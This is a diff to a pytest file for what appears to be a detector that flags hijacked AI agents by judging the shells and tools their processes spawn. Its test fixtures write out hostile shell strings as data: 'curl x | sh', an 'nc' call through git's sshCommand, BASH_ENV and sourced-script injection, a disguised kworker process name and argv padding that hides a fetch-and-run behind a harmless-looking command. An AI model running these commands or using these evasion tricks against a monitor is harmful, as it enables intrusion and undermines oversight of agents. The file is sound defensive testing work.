@@ -9,6 +9,7 @@ tests/test_live_exec_identity.py.
 from __future__ import annotations
 
 import os
+import shutil
 from typing import Any
 
 import pytest
@@ -126,11 +127,6 @@ def test_shells_that_are_not_a_programs_helper_still_alert() -> None:
             ex(6, 1, "/usr/bin/python3", ["python3", "x.py"]),
             ex(7, 6, "/bin/sh", ["sh", "-c", "id"]),
         ],
-        # git core.sshCommand with arguments: sh -c 'nc h 1 "$@"' ... (not one simple command)
-        "sshcommand": [
-            git,
-            ex(11, 10, "/bin/sh", ["/bin/sh", "-c", 'nc h 1 "$@"', "nc h 1", "h", "git-upload-pack 'x'"]),
-        ],
         # a shell started by a shell (the transparent one's exec is judged with parent dash)
         "shell-in-helper": [
             ex(20, 1, "/usr/bin/tar", ["tar"]),
@@ -142,8 +138,6 @@ def test_shells_that_are_not_a_programs_helper_still_alert() -> None:
         "options": [git, ex(13, 10, "/bin/sh", ["sh", "-e", "-c", "gzip"])],
         "argv0": [git, ex(14, 10, "/bin/sh", ["[kworker/u4:2]", "-c", "gzip"])],
         "script": [git, ex(15, 10, "/bin/sh", ["sh", "/tmp/x.sh"])],
-        "builtin": [git, ex(16, 10, "/bin/sh", ["sh", "-c", ". /tmp/x.sh"])],
-        "env": [git, ex(17, 10, "/bin/sh", ["sh", "-c", "BASH_ENV=/tmp/x gzip"])],
         # after -c dash still takes options: the command string is the word after them
         "dashdash": [git, ex(18, 10, "/bin/sh", ["sh", "-c", "--", "curl x | sh"])],
         "option": [git, ex(19, 10, "/bin/sh", ["sh", "-c", "-e", "id; id"])],
@@ -283,11 +277,18 @@ def test_a_reused_pid_does_not_inherit_a_dead_programs_image() -> None:
 
 
 def test_a_command_cut_by_the_kernels_argv_limit_is_not_a_helper() -> None:
-    """The kernel keeps 256 bytes of argv: `gzip<padding>; curl x | sh` arrives as a harmless `gzip ...`."""
-    ch, ctx = channel()
+    """The kernel keeps 256 bytes of argv: `gzip<padding>; curl x | sh` arrives as a harmless `gzip ...`.
+
+    So it is not a one-simple-command helper: it is a recipe shell (anything may follow the
+    cut), transparent like every recipe shell, and without recipe shells it is ``dash<-tar``.
+    """
     tar = ex(10, 1, "/usr/bin/tar", ["tar"])
     cut = dict(ex(11, 10, "/bin/sh", ["sh", "-c", "gzip" + " " * 240]), args_truncated=True)
+    ch, ctx = channel({"recipe_shells": False})
     assert keys(ch, ctx, [tar, cut]) == ["LLM_AGENT_HIJACK:dash<-tar"]
+    ch, ctx = channel()
+    assert keys(ch, ctx, [tar, cut]) == [] and ch.status()["recipe_shells"] == 1
+    assert ch.status()["helper_shells"] == 0, "a cut command was taken for one simple command"
     # git's form passes CMD again as $0: CMD was followed by another word, so it was captured whole
     ch2, ctx2 = channel()
     up = "git-upload-pack '/" + "p" * 100 + "/o.git'"
@@ -345,3 +346,69 @@ def test_a_helper_shell_that_interprets_instead_of_exec_gets_its_verdict() -> No
         keys(ch, ctx, [*ok, _fork(12, 14), ex(14, 12, "/usr/bin/cat", ["cat"]), _exit(12), _exit(11)]) == []
     )
     assert ch.status()["helper_shells_alerted"] == 0
+
+
+def test_recipe_shells_are_transparent_what_they_run_is_judged() -> None:
+    """make/ninja recipes, git bisect run and aliases: ``sh -c 'a && b'`` a program runs for itself.
+
+    The shell gets no verdict (development acts benign_make_build_dev, benign_cmake_ninja_dev,
+    benign_git_bisect_dev: ``dash<-make``, ``dash<-ninja``, ``dash<-git``); every program it
+    runs is judged with ``dash`` as its parent: a LOTL tool, an interpreter (``python<-dash``),
+    another shell (``dash<-dash``: never a helper or recipe shell, its parent is a shell).
+    """
+    make = ex(10, 1, "/usr/bin/make", ["make", "-j2", "-C", "/w"])
+    recipe = ex(11, 10, "/bin/sh", ["/bin/sh", "-c", "echo '#define V 1' > v.h.tmp && mv v.h.tmp v.h"])
+    mv = ex(12, 11, "/usr/bin/mv", ["mv", "v.h.tmp", "v.h"])
+    ch, ctx = channel()
+    assert keys(ch, ctx, [make, recipe, mv]) == []
+    assert ch.status()["recipe_shells"] == 1
+    git = ex(20, 1, "/usr/bin/git", ["git", "bisect", "run", "python3", "check.py"])
+    bisect = ex(21, 20, "/bin/sh", ["sh", "-c", 'python3 check.py "$@"', "python3 check.py"])
+    py = ex(22, 21, "/usr/bin/python3", ["python3", "check.py"])
+    assert keys(ch, ctx, [git, bisect, py]) == ["LLM_AGENT_HIJACK:python<-dash"]
+    # git core.sshCommand with arguments: sh -c 'nc h 1 "$@"' ...; nc is what it runs
+    ssh = ex(31, 20, "/bin/sh", ["/bin/sh", "-c", 'nc h 1 "$@"', "nc h 1", "h", "git-upload-pack 'x'"])
+    nc = shutil.which("nc") or shutil.which("curl")
+    assert nc is not None
+    tool = ex(32, 31, nc, [os.path.basename(nc), "h", "1"])
+    assert [k.split(":")[0] for k in keys(ch, ctx, [ssh, tool])] == ["LIVING_OFF_THE_LAND"]
+    # a recipe that starts a shell of its own: that shell's parent is a shell, never transparent
+    make2 = ex(60, 1, "/usr/bin/make", ["make"])
+    recipe2 = ex(61, 60, "/bin/sh", ["sh", "-c", "cd x && sh -c 'id; id'"])
+    inner = ex(62, 61, "/bin/sh", ["sh", "-c", "id; id"])
+    assert keys(ch, ctx, [make2, recipe2, inner]) == ["LLM_AGENT_HIJACK:dash<-dash"]
+    # what a recipe shell sources or is given in its environment is dash code: still transparent
+    for pid, cmd in ((50, ". /tmp/x.sh"), (51, "BASH_ENV=/tmp/x gzip")):
+        assert keys(ch, ctx, [git, ex(pid, 20, "/bin/sh", ["sh", "-c", cmd])]) == [], cmd
+
+
+def test_recipe_shells_keep_every_condition_but_the_command() -> None:
+    """The agent's own compound ``sh -c``, an interpreter's, a launcher's, a copy's: shells as before."""
+    make = ex(10, 1, "/usr/bin/make", ["make"])
+    cases = {
+        "agent": [ex(5, 1, "/bin/sh", ["sh", "-c", "a && b"])],
+        "python": [
+            ex(6, 1, "/usr/bin/python3", ["python3", "x.py"]),
+            ex(7, 6, "/bin/sh", ["sh", "-c", "a; b"]),
+        ],
+        "env": [ex(8, 1, "/usr/bin/env", ["env"]), ex(9, 8, "/bin/sh", ["sh", "-c", "a; b"])],
+        "bash": [make, ex(12, 10, "/bin/bash", ["bash", "-c", "a; b"])],
+        "option": [make, ex(13, 10, "/bin/sh", ["sh", "-c", "-e", "a; b"])],
+        "script": [make, ex(14, 10, "/bin/sh", ["sh", "/tmp/x.sh"])],
+        "names-shell": [
+            ex(15, 1, "/usr/bin/make", ["make", "SHELL=/bin/sh"]),
+            ex(16, 15, "/bin/sh", ["sh", "-c", "a; b"]),
+        ],
+    }
+    for name, evs in cases.items():
+        ch, ctx = channel()
+        got = keys(ch, ctx, evs)
+        assert any(k.startswith("LLM_AGENT_HIJACK:") for k in got), (name, got)
+        assert ch.status()["recipe_shells"] == 0, name
+    ch, ctx = channel({"recipe_shells": False})
+    got = keys(ch, ctx, [make, ex(11, 10, "/bin/sh", ["sh", "-c", "a && b"])])
+    assert got == ["LLM_AGENT_HIJACK:dash<-make"]
+    ch, ctx = channel({"helper_shells": []})
+    assert keys(ch, ctx, [make, ex(11, 10, "/bin/sh", ["sh", "-c", "a && b"])]) == [
+        "LLM_AGENT_HIJACK:dash<-make"
+    ]
